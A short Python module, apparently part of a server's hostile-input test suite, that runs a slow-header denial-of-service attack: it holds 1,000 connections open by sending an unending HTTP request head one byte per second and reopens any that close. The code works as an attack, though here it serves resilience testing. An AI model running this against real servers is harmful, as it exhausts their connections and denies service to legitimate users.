"""Slow header: requests whose head never ends, a byte a second, on as many connections as there are."""

import asyncio

from tests.hostile.stranger import Stranger

LINES = 1_000


async def attack(stranger: Stranger) -> None:
    """Hold the connections; one that is closed is opened again."""
    await asyncio.gather(*(_hold(stranger, address) for address in stranger.addresses_of(LINES)))


async def _hold(stranger: Stranger, address: str) -> None:
    while True:
        line = await stranger.open(address)
        if line:
            line.writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
            while not line.reader.at_eof() and not line.writer.transport.is_closing():
                line.writer.write(b"x")
                await asyncio.sleep(1)
            stranger.heard["connection ended"] += 1
            line.close()
        await asyncio.sleep(1)
